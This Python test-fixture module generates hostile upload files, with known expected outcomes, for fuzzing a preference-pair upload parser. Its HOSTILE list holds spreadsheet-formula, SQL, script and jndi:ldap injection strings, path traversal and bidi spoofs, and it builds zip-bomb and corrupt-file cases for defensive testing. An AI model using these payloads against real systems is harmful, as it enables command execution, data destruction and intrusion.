"""Hostile upload files with a known right answer (the oracle), for tests/marketplace/test_fuzz_uploads.py
and bench/reliability.py.

Every case is built so its outcome is known *before* the parser sees it, from the rules of
docs/upload-format.md alone: a file of clean rows must be accepted whole and stored byte for byte; a
file with defects injected into known rows must be refused with exactly those rows named; a file
that is hostile as a whole (wrong format, zip bomb, broken encoding, ...) must be refused. Clean rows
are not tame: they carry spreadsheet formulas, markup, SQL, bidi controls, emoji, quotes, commas,
newlines — valid text that must come back unchanged.
"""
from __future__ import annotations

import hashlib
import io
import json
import zipfile
from dataclasses import dataclass, field

from hypothesis import strategies as st

FIELDS = ("prompt", "chosen", "rejected")
LIMITS = {"UPLOAD_MAX_BYTES": 64_000, "UPLOAD_MAX_ROWS": 40, "UPLOAD_MAX_FIELD_CHARS": 300}
MISSING = object()  # a key left out of a JSON object, a cell left off a CSV row
HOSTILE = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","click")', "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "<script>alert(1)</script>", "'; DROP TABLE marketplace_preferencepair; --",
    "${jndi:ldap://x/a}", "{{7*7}}", "..\\..\\etc\\passwd", "\u202eexe.txt", "𝕳𝖊𝖑𝖑𝖔", "e\u0301", "🙂👍🏽",
    'say "hi", then, leave', "line one\nline two", "cr\r\nlf", "\\u0000 is text", "tab\there", "ünïcödé",
    "ﬁne ligature", "Straße", "日本語のテキスト", "مرحبا", "\u00a0nbsp\u00a0", "0xDEADBEEF", "null",
]
TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=20)
PIECE = st.one_of(st.sampled_from(HOSTILE), TEXT)
CYRILLIC = str.maketrans("aceopxyABCEHKMOPTX", "асеорхуАВСЕНКМОРТХ")


@dataclass
class Case:
    kind: str  # "valid" | "rows" | "file"
    filename: str
    content_type: str
    data: bytes
    records: list = field(default_factory=list)  # valid: what must be stored, in order
    bad_rows: set = field(default_factory=set)  # rows: exactly these rows must be named
    duplicates: dict = field(default_factory=dict)  # rows: row → the earlier row it duplicates
    label: str = ""  # what was done to the file (for a failure message and the bench)
    says: str = ""  # file: a phrase the refusal must contain


# --- clean rows --------------------------------------------------------------------------------

# Words that make each clean row its own: rows that differ only in their tag are near-copies of each
# other, which an upload refuses (docs/upload-format.md, "Copies and near-copies").
WORDS = ("amber basin cedar delta ember fjord garnet harbor indigo juniper kestrel lagoon meadow nickel orchid "
         "pepper quartz raven saffron tundra umber violet willow yarrow zephyr anchor bramble copper dune "
         "falcon glacier hazel iris jasper kelp lantern marble nutmeg oyster pebble quill ridge spruce thistle "
         "upland vapor walnut xenon yonder zinnia acorn birch canyon dahlia egret fennel grove heron islet "
         "jade krill lichen").split()


def row_words(tag: str) -> str:
    digest = hashlib.sha256(tag.encode()).digest()
    return " ".join(WORDS[b % len(WORDS)] for b in digest[:8])


@st.composite
def clean_record(draw, tag: str, conversational: bool = False) -> dict:
    parts = {name: f"{tag} {row_words(tag + name)} {name} {draw(PIECE)}" for name in FIELDS}
    if not conversational:
        return parts
    role = draw(st.sampled_from(["user", "system"]))
    return {"prompt": [{"role": role, "content": parts["prompt"]}],
            "chosen": [{"role": "assistant", "content": parts["chosen"]}],
            "rejected": [{"role": "assistant", "content": parts["rejected"]}]}


@st.composite
def clean_records(draw, nonce: str, fmt: str, min_size: int = 1) -> list[dict]:
    n = draw(st.integers(min_size, 8))
    conv = draw(st.booleans()) if fmt == "parquet" else False
    return [draw(clean_record(f"r{i}-{nonce}", conv or (fmt == "jsonl" and draw(st.booleans())))) for i in range(n)]


# --- confusable copies: equal under the documented normal form ------------------------------------

def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in text)


def _swapcase_ascii(text: str) -> str:
    return "".join(c.swapcase() if c.isascii() else c for c in text)


def _respace(text: str) -> str:
    return "\u00a0 " + text.replace(" ", " \t\u2003", 1) + "  \n"


def _invisible(text: str) -> str:
    return "\u200b".join(text[:6]) + "\u00ad" + text[6:] + "\ufeff"


CONFUSE = {"case": _swapcase_ascii, "fullwidth": _fullwidth, "spaces": _respace, "invisible": _invisible,
           "cyrillic": lambda t: t.translate(CYRILLIC), "exact": lambda t: t}


def confusable_copy(record: dict, how: str) -> dict:
    """A copy a reader takes for the same pair: only the ASCII tag, or the spacing, is disguised."""
    def change(value):
        if isinstance(value, list):
            return [dict(m, content=change(m["content"])) for m in value]
        if how == "spaces":
            return _respace(value)
        tag, _, rest = value.partition(" ")
        return CONFUSE[how](tag) + " " + rest
    return {k: change(v) for k, v in record.items()}


def nonce(counter: int) -> str:
    """A per-file tag made of letters that have Cyrillic lookalikes, so the `cyrillic` copy changes it."""
    letters, out = "aceopxy", ""
    while True:
        counter, digit = divmod(counter, len(letters))
        out += letters[digit]
        if not counter:
            return out + "x"


# --- serialising rows (a row is a dict, or raw bytes for a JSONL line) -----------------------------

def jsonl_file(rows: list, blank_every: int = 0, crlf: bool = False, bom: bool = False) -> tuple[bytes, list[int]]:
    """The file and each row's line number (blank lines count: rows are line numbers in JSONL)."""
    lines, numbers = [], []
    for i, row in enumerate(rows):
        if blank_every and i % blank_every == 1:
            lines.append(b"   ")
        lines.append(row if isinstance(row, bytes) else json.dumps(
            {k: v for k, v in row.items() if v is not MISSING}, ensure_ascii=False).encode("utf-8"))
        numbers.append(len(lines))
    data = (b"\r\n" if crlf else b"\n").join(lines) + b"\n"
    return (b"\xef\xbb\xbf" + data if bom else data), numbers


def csv_file(rows: list[dict], extra: set[int] = frozenset(), header=FIELDS) -> bytes:
    import csv

    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(header)
    for i, row in enumerate(rows):
        cells = [row[f] for f in FIELDS if row.get(f, MISSING) is not MISSING]
        writer.writerow(cells + (["extra cell"] if i in extra else []))
    return out.getvalue().encode("utf-8")


def parquet_file(rows: list[dict], compression: str = "snappy", row_group_size: int | None = None) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.Table.from_pylist([{f: row.get(f) if row.get(f, MISSING) is not MISSING else None for f in FIELDS}
                                  for row in rows])
    buf = io.BytesIO()
    pq.write_table(table, buf, compression=compression, row_group_size=row_group_size)
    return buf.getvalue()


# --- row defects: each makes exactly its row invalid ----------------------------------------------

def _text_defect(record: dict, kind: str, name: str, limit: int, draw) -> dict:
    record = dict(record)
    if kind == "empty":
        record[name] = draw(st.sampled_from(["", " ", "\t\n ", "\u00a0\u2003"]))
    elif kind == "missing":
        record[name] = MISSING
        if name == "prompt":  # answers sharing a beginning would be TRL's implicit-prompt form, a valid row
            record["chosen"], record["rejected"] = "+" + record["chosen"], "-" + record["rejected"]
    elif kind == "null":
        record[name] = None
    elif kind == "nonstring":
        record[name] = draw(st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(),
                                      st.just({"text": "x"}), st.lists(st.integers(), min_size=1, max_size=3)))
    elif kind == "too_long":
        record[name] = "y" * (limit + draw(st.integers(1, 50)))
    elif kind == "nul":
        record[name] = record[name][:5] + "\x00" + record[name][5:]
    elif kind == "same":
        record["rejected"] = record["chosen"]
    return record


RAW_LINES = {  # JSONL lines that are not a usable JSON object, whatever the rest of the file
    "truncated": lambda line: line[: max(1, len(line) // 2)],
    "array": lambda line: b"[" + line + b"]",
    "number": lambda line: b"42",
    "duplicate_key": lambda line: b'{"prompt": "a", "prompt": "b", "chosen": "c", "rejected": "d"}',
    "huge_int": lambda line: b'{"prompt": ' + b"9" * 5000 + b', "chosen": "c", "rejected": "d"}',
    "deep": lambda line: b'{"prompt": ' + b"[" * 5000 + b"]" * 5000 + b', "chosen": "c", "rejected": "d"}',
    "latin1": lambda line: line.decode("utf-8").encode("latin-1", "replace") + b"\xe9\xff",
    "overlong": lambda line: line[:3] + b"\xc0\xaf" + line[3:],
    "cesu_surrogate": lambda line: line[:3] + b"\xed\xa0\x80" + line[3:],
    "cut_multibyte": lambda line: line + b"\xe2\x82",
    "escaped_surrogate": lambda line: b'{"prompt": "\\ud83d", "chosen": "c", "rejected": "d"}',
    "utf16": lambda line: line.decode("utf-8").encode("utf-16"),
    "csv_line": lambda line: b"prompt,chosen,rejected",
    "bad_role": lambda line: b'{"prompt": [{"role": "root\\u0000", "content": "x"}], "chosen": [{"role": '
                             b'"assistant", "content": "a"}], "rejected": [{"role": "assistant", "content": "b"}]}',
    "empty_messages": lambda line: b'{"prompt": [], "chosen": [], "rejected": []}',
}
TEXT_DEFECTS = {"jsonl": ("empty", "missing", "null", "nonstring", "too_long", "nul", "same"),
                "csv": ("empty", "missing", "too_long", "nul", "same"),
                "parquet": ("empty", "null", "too_long", "nul", "same")}

NAMES = {"jsonl": ["pairs.jsonl", "PAIRS.JSONL", "pairs.ndjson", "my file (1).jsonl", "данные.jsonl"],
         "csv": ["pairs.csv", "Pairs.CSV", "=cmd|calc.csv", "x\u202egpj.csv"],
         "parquet": ["pairs.parquet", "PAIRS.Parquet"]}
TYPES = {"jsonl": ["application/jsonl", "application/x-ndjson", "text/plain", "application/octet-stream"],
         "csv": ["text/csv", "application/vnd.ms-excel", "text/plain; charset=utf-8"],
         "parquet": ["application/vnd.apache.parquet", "application/octet-stream"]}


def as_text(record: dict) -> dict:
    return {k: "\n".join(m["content"] for m in v) if isinstance(v, list) else v for k, v in record.items()}


def _serialise(draw, fmt: str, rows: list, extra: set) -> tuple[bytes, list[int]]:
    if fmt == "jsonl":
        return jsonl_file(rows, blank_every=draw(st.integers(0, 3)), crlf=draw(st.booleans()), bom=draw(st.booleans()))
    numbers = list(range(1, len(rows) + 1))
    if fmt == "csv":
        bom = b"\xef\xbb\xbf" if draw(st.booleans()) else b""
        return bom + csv_file(rows, extra), numbers
    return parquet_file(rows, compression=draw(st.sampled_from(["snappy", "zstd", "gzip", "none"]))), numbers


@st.composite
def valid_case(draw, counter: int) -> Case:
    fmt = draw(st.sampled_from(["jsonl", "csv", "parquet"]))
    records = draw(clean_records(nonce(counter), fmt))
    data, _ = _serialise(draw, fmt, list(records), set())
    return Case("valid", draw(st.sampled_from(NAMES[fmt])), draw(st.sampled_from(TYPES[fmt])), data,
                records=records, label=f"valid {fmt}")


def _row_defect(draw, fmt: str, record: dict, conv_parquet: bool, can_dup: bool) -> str:
    kinds = list(TEXT_DEFECTS[fmt]) if not conv_parquet else ["null", "same"]
    kinds += ["dup"] * 3 if can_dup else []
    kinds += list(RAW_LINES) if fmt == "jsonl" else ["extra"] if fmt == "csv" else []
    return draw(st.sampled_from(kinds))


@st.composite
def row_defect_case(draw, counter: int) -> Case:
    fmt = draw(st.sampled_from(["jsonl", "csv", "parquet"]))
    records = draw(clean_records(nonce(counter), fmt))
    conv_parquet = fmt == "parquet" and isinstance(records[0]["prompt"], list)
    bad = sorted(draw(st.sets(st.integers(0, len(records) - 1), min_size=1, max_size=min(4, len(records)))))
    rows, extra, dup_of, kinds = list(records), set(), {}, []
    for i in bad:
        clean_before = [j for j in range(i) if j not in bad]
        kind = _row_defect(draw, fmt, records[i], conv_parquet, bool(clean_before))
        kinds.append(kind)
        if kind == "dup":
            dup_of[i] = draw(st.sampled_from(clean_before))
            rows[i] = confusable_copy(records[dup_of[i]], draw(st.sampled_from(sorted(CONFUSE))))
        elif kind == "extra":
            extra.add(i)
        elif kind in RAW_LINES:
            rows[i] = RAW_LINES[kind](json.dumps(records[i], ensure_ascii=False).encode("utf-8"))
        else:
            record = records[i] if conv_parquet else as_text(records[i])
            rows[i] = _text_defect(record, kind, draw(st.sampled_from(FIELDS)), LIMITS["UPLOAD_MAX_FIELD_CHARS"], draw)
    data, numbers = _serialise(draw, fmt, rows, extra)
    return Case("rows", draw(st.sampled_from(NAMES[fmt])), draw(st.sampled_from(TYPES[fmt])), data,
                bad_rows={numbers[i] for i in bad}, duplicates={numbers[i]: numbers[j] for i, j in dup_of.items()},
                label=f"{fmt} rows: {', '.join(sorted(set(kinds)))}")


# --- hostile whole files ----------------------------------------------------------------------------

def _zip(payload: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("pairs.parquet", payload)
    return buf.getvalue()


def _bomb(records: list[dict]) -> bytes:
    """Valid Parquet whose text column expands far beyond the upload limit: ~1 KB on the wire."""
    big = "A" * (3 * LIMITS["UPLOAD_MAX_BYTES"])
    return parquet_file([dict(as_text(records[0]), prompt=big)] * 2, compression="zstd")


def _cut(data: bytes, per_mille: int) -> bytes:
    """The file cut short somewhere after its magic bytes (the draw must not depend on the file's size)."""
    return data[: 4 + (len(data) - 5) * per_mille // 1000]


def _too_many(fmt: str, records: list[dict]) -> bytes:
    rows = [as_text(dict(records[0], prompt=f"row {i} {records[0]['prompt']}")) for i in range(LIMITS["UPLOAD_MAX_ROWS"] + 2)]
    return parquet_file(rows) if fmt == "parquet" else csv_file(rows)


FILE_ATTACKS = {  # name → (filename, content type, data from a few clean records)
    "exe_extension": lambda r, d: ("pairs.jsonl.exe", "application/octet-stream", jsonl_file(r)[0]),
    "txt_extension": lambda r, d: ("pairs.txt", "text/plain", jsonl_file(r)[0]),
    "no_extension": lambda r, d: ("pairs", "", jsonl_file(r)[0]),
    "image_type": lambda r, d: ("pairs.csv", "image/png", csv_file(r)),
    "html_type": lambda r, d: ("pairs.parquet", "text/html", parquet_file(r)),
    "parquet_named_jsonl": lambda r, d: ("pairs.jsonl", "application/octet-stream", parquet_file(r)),
    "jsonl_named_parquet": lambda r, d: ("pairs.parquet", "application/octet-stream", jsonl_file(r)[0]),
    "csv_named_parquet": lambda r, d: ("pairs.parquet", "application/octet-stream", csv_file(r)),
    "zip_named_parquet": lambda r, d: ("pairs.parquet", "application/octet-stream", _zip(parquet_file(r))),
    "zip_bomb_parquet": lambda r, d: ("pairs.parquet", "application/octet-stream", _bomb(r)),
    "truncated_parquet": lambda r, d: ("pairs.parquet", "application/octet-stream",
                                       _cut(parquet_file(r), d(st.integers(0, 1000)))),
    "lying_footer": lambda r, d: ("pairs.parquet", "application/octet-stream",
                                  (lambda b: b[:-8] + (2**31).to_bytes(4, "little") + b"PAR1")(parquet_file(r))),
    "garbage_parquet": lambda r, d: ("pairs.parquet", "application/octet-stream", b"PAR1" + d(st.binary(min_size=1, max_size=300))),
    "garbage_jsonl": lambda r, d: ("pairs.jsonl", "application/octet-stream", d(st.binary(min_size=1, max_size=300)).replace(b"PAR1", b"")),
    "empty": lambda r, d: (d(st.sampled_from(["pairs.jsonl", "pairs.csv", "pairs.parquet"])), "", b""),
    "whitespace": lambda r, d: ("pairs.csv", "text/csv", b" \n\t\r\n "),
    "oversized": lambda r, d: ("pairs.jsonl", "", jsonl_file(r)[0] + b"\n" * (LIMITS["UPLOAD_MAX_BYTES"] + 1)),
    "too_many_rows_parquet": lambda r, d: ("pairs.parquet", "", _too_many("parquet", r)),
    "csv_missing_column": lambda r, d: ("pairs.csv", "text/csv", csv_file(r, header=("prompt", "chosen", "rejekted"))),
    "csv_duplicate_column": lambda r, d: ("pairs.csv", "text/csv",
                                          csv_file(r).replace(b"prompt,chosen,rejected", b"prompt,chosen,rejected,chosen", 1)),
    "csv_utf16": lambda r, d: ("pairs.csv", "text/csv", csv_file(r).decode("utf-8").encode("utf-16")),
    "csv_latin1": lambda r, d: ("pairs.csv", "text/csv", csv_file(r) + "é,ü,ß\n".encode("latin-1")),
    "csv_unterminated_quote": lambda r, d: ("pairs.csv", "text/csv", csv_file(r) + b'a,b,"never closed\n'),
    "json_array_file": lambda r, d: ("pairs.jsonl", "", json.dumps(r, indent=2).encode("utf-8")),
}


ATTACK_SAYS = {
    "exe_extension": "unsupported file extension", "txt_extension": "unsupported file extension",
    "no_extension": "unsupported file extension", "image_type": "content type", "html_type": "content type",
    "parquet_named_jsonl": "not jsonl", "jsonl_named_parquet": "not parquet", "csv_named_parquet": "not parquet",
    "zip_named_parquet": "not parquet", "zip_bomb_parquet": "expands to", "truncated_parquet": "unreadable Parquet",
    "lying_footer": "metadata claims", "garbage_parquet": "unreadable Parquet", "empty": "empty",
    "whitespace": "empty", "oversized": "limit", "too_many_rows_parquet": "the limit is",
    "csv_missing_column": "missing: rejected", "csv_duplicate_column": "more than once",
    "csv_utf16": "not valid UTF-8", "csv_latin1": "not valid UTF-8", "csv_unterminated_quote": "malformed CSV",
}


@st.composite
def file_attack_case(draw, counter: int) -> Case:
    name = draw(st.sampled_from(sorted(FILE_ATTACKS)))
    records = [as_text(r) for r in draw(clean_records(nonce(counter), "csv"))]
    filename, content_type, data = FILE_ATTACKS[name](records, draw)
    return Case("file", filename, content_type, data, label=f"file: {name}", says=ATTACK_SAYS.get(name, ""))
